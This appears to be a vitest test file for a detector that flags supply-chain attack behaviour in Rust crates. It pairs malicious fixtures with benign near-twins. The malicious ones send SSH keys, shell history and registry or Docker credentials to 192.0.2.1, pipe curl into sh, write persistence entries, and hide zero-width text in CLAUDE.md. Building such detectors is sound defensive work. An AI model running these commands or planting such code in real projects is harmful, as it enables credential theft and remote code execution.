import { expect, test } from 'vitest';
import { claimsOf } from '../support/claims-of.ts';

const taking = (self: string) => `
  pub struct Plan { command: String }
  impl Plan {
    fn speak(${self}, line: std::net::TcpStream) {}
    fn start(&self) { std::process::Command::new(&self.command).spawn(); }
  }
  pub fn go(mut plan: Plan) {
    plan.speak(std::net::TcpStream::connect("192.0.2.1:1").unwrap());
    plan.start();
  }`;

test('what a method is given may stay in what it is called on, but for one that only looks at it', async () => {
  expect(await claimsOf(taking('&mut self'))).toContain('remote-command');
  for (const self of ['&self', "&'a self"]) expect(await claimsOf(taking(self))).not.toContain('remote-command');
});

const holding = (type: string) => `
  use std::collections::{BTreeMap, HashMap};
  pub struct Client {}
  impl Client {
    pub fn get(&self, path: &str) -> std::net::TcpStream { std::net::TcpStream::connect("192.0.2.1:1").unwrap() }
  }
  pub struct Settings { held: ${type} }
  pub fn go(settings: &Settings) { std::process::Command::new(settings.held.get("helper")).spawn(); }`;

test('the get of a map, or of what is not known, is not that of a client which the crate has', async () => {
  expect(await claimsOf(holding('Client'))).toContain('remote-command');
  for (const type of ['HashMap<String, String>', 'std::collections::BTreeMap<String, String>', 'Box<dyn Any>'])
    expect(await claimsOf(holding(type))).not.toContain('remote-command');
});

const entry = (name: string) => `
  pub fn go() {
    let name = ${name};
    std::fs::write(dirs::home_dir().unwrap().join(format!("Library/LaunchAgents/{}.plist", name)), "inert");
  }`;

test("an entry to be started with the session is the library's own where it has a name", async () => {
  expect(await claimsOf(entry('"com.example.inert"'))).toContain('persistence-write');
  expect([...(await claimsOf(entry('""')))]).toContain('autostart-write');
  expect(await claimsOf(entry('""'))).not.toContain('persistence-write');
});

const through = (told: string, spoken: string) => `
  use std::io::Write;
  pub fn go() {
    let (told, heard) = std::sync::mpsc::channel();
    let (spoken, listened) = std::sync::mpsc::channel();
    std::thread::spawn(move || { told.send(std::fs::read("/home/me/.ssh/id_rsa").unwrap()); spoken.send(1) });
    let mut out = std::net::TcpStream::connect("192.0.2.1:1").unwrap();
    while let Ok(bytes) = ${told}.recv() { println!("{}", bytes.len()); }
    out.write_all(${spoken}.recv().unwrap());
  }`;

test('what comes out of a channel is what was sent into that one', async () => {
  expect(await claimsOf(through('listened', 'heard'))).toContain('read-then-send');
  expect(await claimsOf(through('heard', 'listened'))).not.toContain('read-then-send');
});

const filling = (sent: string) => `
  use std::io::Write;
  fn gather(path: &str, into: &mut Vec<u8>) { into.extend(std::fs::read(path).unwrap()); }
  pub fn go() {
    let (mut keys, mut terms) = (Vec::new(), Vec::new());
    gather("/home/me/.ssh/id_rsa", &mut keys);
    gather("/usr/share/terms.txt", &mut terms);
    std::net::TcpStream::connect("192.0.2.1:1").unwrap().write_all(&${sent});
  }`;

test('a buffer holds what a function filled it with, and no other', async () => {
  expect(await claimsOf(filling('keys'))).toContain('read-then-send');
  expect(await claimsOf(filling('terms'))).not.toContain('read-then-send');
});

const running = (line: string) => `pub fn go() { std::process::Command::new("sh").arg("-c").arg("${line}").spawn(); }`;

test('a line of a shell that pours credentials out is told from one that has a tool use them', async () => {
  const poured = [
    'cat ~/.npmrc | curl -d @- http://192.0.2.1/',
    'curl -d @$HOME/.git-credentials http://192.0.2.1/',
    'curl -d @- http://192.0.2.1/ < ~/.cargo/credentials.toml',
  ];
  for (const line of poured) expect(await claimsOf(running(line)), line).toContain('read-then-send');
  const used = [
    'curl --netrc-file ~/.netrc -d @body.json https://service.example/',
    'cat ~/.npmrc | grep registry; curl -d @body.json https://service.example/',
    'kubectl --kubeconfig ~/.kube/config get pods | curl -d @- https://service.example/',
  ];
  for (const line of used) expect(await claimsOf(running(line)), line).not.toContain('read-then-send');
});

const publishing = (given: string) => `
  pub fn go() {
    let text = std::fs::read_to_string(home::cargo_home().unwrap().join("credentials.toml")).unwrap();
    let table: toml::Value = text.parse().unwrap();
    let token = table["registry"]["token"].as_str().unwrap();
    ureq::put("https://registry.example/new").${given};
  }`;

test("cargo's own token is at home in a header", async () => {
  expect(await claimsOf(publishing('send_string(token)'))).toContain('read-then-send');
  expect(await claimsOf(publishing('set("Authorization", token)'))).not.toContain('read-then-send');
});

const writing = (content: string) => `pub fn go() { std::fs::write("CLAUDE.md", ${content}); }`;

test('instructions are hidden where nobody sees them, not where they are in another script', async () => {
  expect(await claimsOf(writing('"a\\u{200b}\\u{200c}\\u{200b}"'))).toContain('hidden-instructions');
  for (const content of ['"می\\u{200c}خواهم"', '"\\u{feff}# Notes"'])
    expect(await claimsOf(writing(content))).not.toContain('hidden-instructions');
});

const reading = (made: string) => `
  pub struct Sizes { left: Vec<String> }
  impl Iterator for Sizes {
    type Item = Vec<u8>;
    fn next(&mut self) -> Option<Vec<u8>> { std::fs::read("/home/me/.ssh/id_rsa").ok() }
  }
  pub struct Letter { text: Vec<u8> }
  pub struct Other { text: u8 }
  impl From<Sizes> for Letter {
    fn from(Sizes { left }: Sizes) -> Self { Letter { text: std::fs::read("/home/me/.ssh/id_rsa").unwrap() } }
  }
  static CLIENT: std::sync::LazyLock<ureq::Agent> = std::sync::LazyLock::new(|| ureq::agent());
  pub fn go(sizes: Sizes, other: Other) { ${made} }`;

test('what types of the crate give as iterators and conversions is what those functions make', async () => {
  const sent = [
    'for bytes in sizes { CLIENT.post("http://192.0.2.1/").send_bytes(&bytes); }',
    'let letter: Letter = sizes.into(); CLIENT.post("http://192.0.2.1/").send_bytes(&letter.text);',
  ];
  for (const made of sent) expect(await claimsOf(reading(made)), made).toContain('read-then-send');
  const kept = [
    'for bytes in sizes { drop(bytes); } CLIENT.post("http://192.0.2.1/").send_bytes(&other.text);',
    'let letter: Vec<u8> = other.into(); CLIENT.post("http://192.0.2.1/").send_bytes(&letter);',
  ];
  for (const made of kept) expect(await claimsOf(reading(made)), made).not.toContain('read-then-send');
});

const pushing = (made: string) => `pub fn go() { ${made} std::fs::write(place, "# inert"); }`;

test('a path that is pushed to goes a step down, a name gets an ending', async () => {
  const down = 'let mut place = std::path::PathBuf::from(std::env::var("HOME").unwrap()); place.push(".bashrc");';
  const ending = 'let mut place = std::ffi::OsString::from("target/bashrc"); place.push(".bashrc");';
  expect(await claimsOf(pushing(down))).toContain('persistence-write');
  expect(await claimsOf(pushing(ending))).not.toContain('persistence-write');
});

const posting = (sent: string) => `
  pub fn go() {
    let history = std::fs::read_to_string("/home/me/.bash_history").unwrap();
    ureq::post("http://192.0.2.1/").send_json(serde_json::json!({
      "name": "a: { b", "parts": [{ "kind": 1, "more": { "lines": ${sent} } }, {}],
    }));
  }`;

test('what stands deep in an object is sent with it', async () => {
  expect(await claimsOf(posting('history.lines().count()'))).toContain('read-then-send');
  expect(await claimsOf(posting('"history"'))).not.toContain('read-then-send');
});

const asking = (script: string) =>
  `pub fn go() { std::process::Command::new("python3").arg("-c").arg(r#"${script}"#).status(); }`;

test('a script that runs what it fetches is told from one that prints it', async () => {
  const runs = 'import urllib.request as u; exec(u.urlopen("http://192.0.2.1/").read())';
  const prints = 'import urllib.request as u; print(u.urlopen("http://192.0.2.1/").read())';
  expect(await claimsOf(asking(runs))).toContain('download-then-run');
  expect(await claimsOf(asking(prints))).not.toContain('download-then-run');
});

const listing = (more: string) => `
  #[derive(Default)] pub struct Script { lines: Vec<String> }
  impl Script {
    pub fn line(mut self, line: &str) -> Self { self.lines.push(line.into()); self }
    pub fn run(self) { std::process::Command::new("sh").arg("-c").arg(self.lines.join("; ")).status(); }
  }
  pub fn go() { Script::default().line("cd /tmp").line("${more}").run(); }`;

test('what is put into a field line by line is what is run', async () => {
  expect(await claimsOf(listing('curl http://192.0.2.1/ | sh'))).toContain('download-then-run');
  expect(await claimsOf(listing('echo curl and sh'))).not.toContain('download-then-run');
});

const keeping = (place: string) => `
  pub fn go() {
    let mut path = home::cargo_home().unwrap();
    path.push("registry");
    path.push("${place}");
    std::fs::write(path.join("inert"), "inert");
  }`;

test("a registry's client keeps the index, and nobody but cargo what is built", async () => {
  expect(await claimsOf(keeping('src'))).toContain('toolchain-tamper');
  expect(await claimsOf(keeping('index'))).not.toContain('toolchain-tamper');
});

const given = (type: string, uses: string) => `
  ${uses}
  pub struct Client {}
  impl Client {
    pub fn fetch(&self, path: &str) -> std::net::TcpStream { std::net::TcpStream::connect("192.0.2.1:1").unwrap() }
  }
  pub fn go(settings: ${type}) { std::process::Command::new(settings.fetch("helper")).spawn(); }`;

test("a method of another crate's type is none of this crate's, by whichever name the type goes here", async () => {
  expect(await claimsOf(given('&Client', ''))).toContain('remote-command');
  expect(await claimsOf(given('&Profile', 'use crate::profile::Profile;'))).toContain('remote-command');
  for (const [type, uses] of [
    ['&std::ffi::OsStr', ''],
    ["&'a mut Profile", 'use std::process::Profile;'],
    ['Profile', 'use crate::profile::Profile; mod profile { pub use std::process::Profile; }'],
  ] as const)
    expect(await claimsOf(given(type, uses))).not.toContain('remote-command');
});

const sending = (body: string) => `
  pub fn go(client: &std::net::TcpStream, path: &str) {
    let token = std::env::var("SERVICE_PASSWORD").unwrap();
    let held = std::fs::read_to_string(${body}).unwrap();
    client.write_all(format!("{token} {held}"));
  }`;

test("a client's own credential beside a file is no file of credentials", async () => {
  expect(await claimsOf(sending('dirs::home_dir().unwrap().join(".docker/config.json")'))).toContain('read-then-send');
  expect(await claimsOf(sending('path'))).not.toContain('read-then-send');
});
